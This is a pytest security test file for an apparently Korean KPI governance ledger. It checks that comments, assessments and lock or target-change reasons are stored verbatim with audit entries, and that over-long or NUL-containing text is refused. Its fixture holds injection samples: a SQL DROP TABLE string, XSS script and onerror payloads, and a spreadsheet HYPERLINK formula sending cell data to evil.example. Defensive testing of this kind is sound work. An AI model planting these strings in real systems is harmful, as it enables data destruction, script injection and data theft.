"""Hostile text in every free-text field is stored exactly as written and read back unchanged, in the
record itself and in its audit entry."""

from __future__ import annotations

import json
from datetime import timedelta

import pytest

from etl.governance import audit, comments, targets
from etl.governance import period_locks as locks
from etl.ledger.store import Store
from tests.security.conftest import ACTORS, NOW, OWN_AGENCY

HOSTILE = {
    "sql": "'); DROP TABLE submissions; -- \" OR 1=1 --",
    "html": '<script>alert("x")</script><img src=x onerror=alert(1)> &amp; &lt;',
    "formula": '=HYPERLINK("http://evil.example/?"&A1,"클릭")',
    "formula_prefixes": "+1\n-1\n@SUM(A1)\n\t=1",
    "long": "가나다라마바사 " * 2_400,  # 19,200 characters: under the limit
    "control": "줄\r\n바꿈\x01\x07벨\x08\x1b[31m색\x7f\u202eRTL\ufeffBOM\u2028끝",
    "markdown": "**굵게** [링크](javascript:alert(1)) $\\LaTeX$ :red[빨강]",
}


@pytest.fixture
def store(blank_store: Store) -> Store:
    """These tests need no submissions: an empty store with the fixture agencies."""
    return blank_store


def _audited_after(store: Store, action: str) -> dict[str, object]:
    entry = audit.search(store, ACTORS["system"], action=action, limit=1)[0]
    return json.loads(entry.after or "{}")


@pytest.mark.parametrize("name", HOSTILE)
def test_comment_and_assessment_text_is_stored_verbatim(store: Store, name: str) -> None:
    text = HOSTILE[name]
    comments.add_comment(store, ACTORS["agency"], "S1-T2-K1", OWN_AGENCY, "2026-09", text, now=NOW)
    comments.add_assessment(store, ACTORS["committee"], "S1-T1", "2026-Q3", "fair", text, now=NOW)
    [comment] = comments.comments(store, kpi_code="S1-T2-K1", period="2026-09")
    [assessment] = comments.assessments(store, task_code="S1-T1", quarter="2026-q3")
    assert comment.text == text and assessment.text == text
    assert _audited_after(store, "comment.added")["text"] == text
    assert _audited_after(store, "assessment.added")["text"] == text


@pytest.mark.parametrize("name", HOSTILE)
def test_reasons_are_stored_verbatim(store: Store, name: str) -> None:
    text, admin = HOSTILE[name], ACTORS["admin"]
    locks.lock(store, admin, "2026-09", text, now=NOW)
    locks.unlock(store, admin, "2026-09", text, now=NOW + timedelta(minutes=1))
    change = targets.change_target(store, admin, "S1-T2-K1", 2026, 97.5, text, now=NOW)
    [lock] = locks.list_locks(store)
    assert lock.reason == text and lock.unlock_reason == text
    assert targets.list_changes(store)[0].reason == change.reason == text
    assert _audited_after(store, "period.unlocked")["reason"] == text
    assert _audited_after(store, "target.changed")["reason"] == text


def test_text_over_the_limit_is_refused_and_nothing_is_stored(store: Store) -> None:
    with pytest.raises(ValueError, match="20,000"):
        comments.add_comment(store, ACTORS["agency"], "S1-T2-K1", OWN_AGENCY, "2026-09", "가" * 20_001, now=NOW)
    with pytest.raises(ValueError, match="empty"):
        comments.add_assessment(store, ACTORS["committee"], "S1-T1", "2026-Q3", "fair", " \n ", now=NOW)
    assert comments.comments(store) == [] and comments.assessments(store) == []


def test_a_nul_character_is_refused_with_its_position(store: Store) -> None:
    # PostgreSQL cannot keep NUL in text, so no backend takes it: the message says where it is.
    with pytest.raises(ValueError, match="character 3"):
        comments.add_comment(store, ACTORS["agency"], "S1-T2-K1", OWN_AGENCY, "2026-09", "가나\x00다", now=NOW)
    with pytest.raises(ValueError, match="NUL"):
        locks.lock(store, ACTORS["admin"], "2026-09", "\x00", now=NOW)
    assert comments.comments(store) == [] and locks.list_locks(store) == []


def test_the_latest_comment_is_shown_and_earlier_ones_are_kept(store: Store) -> None:
    agency = ACTORS["agency"]
    comments.add_comment(store, agency, "S1-T2-K1", OWN_AGENCY, "2026-09", "첫 의견", now=NOW)
    comments.add_comment(store, agency, "S1-T2-K1", OWN_AGENCY, "2026-09", "고친 의견", now=NOW + timedelta(hours=1))
    assert [c.text for c in comments.comments(store)] == ["고친 의견"]
    assert [c.text for c in comments.comments(store, latest_only=False)] == ["고친 의견", "첫 의견"]
    with pytest.raises(ValueError, match="KPI"):
        comments.add_comment(store, agency, "S9-T9-K9", OWN_AGENCY, "2026-09", "없는 지표", now=NOW)
    with pytest.raises(ValueError, match="rating"):
        comments.add_assessment(store, ACTORS["committee"], "S1-T1", "2026-Q3", "A+", "등급 오류", now=NOW)
